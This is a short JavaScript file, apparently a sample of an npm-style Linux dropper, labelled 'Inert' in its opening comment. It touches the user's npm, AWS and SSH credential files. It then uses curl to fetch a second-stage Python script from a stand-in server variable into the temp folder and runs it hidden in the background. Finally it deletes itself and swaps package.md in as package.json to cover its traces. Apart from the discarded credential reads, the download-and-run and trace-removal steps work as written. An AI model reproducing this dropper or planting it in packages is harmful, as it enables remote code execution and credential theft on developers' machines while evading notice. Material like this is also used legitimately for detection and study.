// Inert. The Linux shape of a dropper: credentials, a script in the temporary folder, left behind, traces removed.
const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
for (const place of [".npmrc", ".aws/credentials", ".ssh/id_ed25519"]) {
  try { fs.readFileSync(path.join(os.homedir(), place)); } catch {}
}
const drop = path.join(os.tmpdir(), "ld.py");
cp.spawnSync("/bin/sh", ["-c", `curl -s -o ${drop} "$STANDIN_SERVER/second-stage.py" && nohup python3 ${drop} > /dev/null 2>&1 &`]);
fs.unlinkSync(__filename);
fs.renameSync(path.join(__dirname, "package.md"), path.join(__dirname, "package.json"));
